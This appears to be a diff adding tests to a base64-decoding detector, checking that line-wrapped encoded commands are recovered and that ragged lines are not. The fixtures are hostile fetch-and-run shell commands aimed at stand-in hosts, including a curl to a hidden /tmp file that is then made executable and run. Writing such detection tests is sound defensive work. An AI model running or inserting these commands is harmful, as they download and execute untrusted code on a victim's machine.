@@ -33,6 +33,22 @@ def test_gzip_inside_base64() -> None:
     assert "curl https://evil.test/x | sh" in list(decode_base64(blob))
 
 
+def test_base64_wrapped_into_lines_is_read_whole() -> None:
+    command = "curl -fsSL https://cdn.example.test/stage/agent.sh -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a"
+    blob = b64(command)
+    lines = [blob[i : i + 76] for i in range(0, len(blob), 76)]
+    assert len(lines) >= 2
+    for newline in ("\n", "\r\n", "\n    "):
+        assert command in list(decode_base64(newline.join(lines)))
+
+
+def test_lines_of_different_lengths_are_not_one_block() -> None:
+    command = "curl -fsSL https://cdn.example.test/stage/agent.sh -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a"
+    blob = b64(command)
+    ragged = "\n".join([blob[:44], blob[44:100], blob[100:]])  # 44 then 56: no wrapping width
+    assert command not in list(decode_base64(ragged))
+
+
 def test_hex_digests_and_plain_words_are_not_base64() -> None:
     digest = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
     assert list(decode_base64(digest)) == []
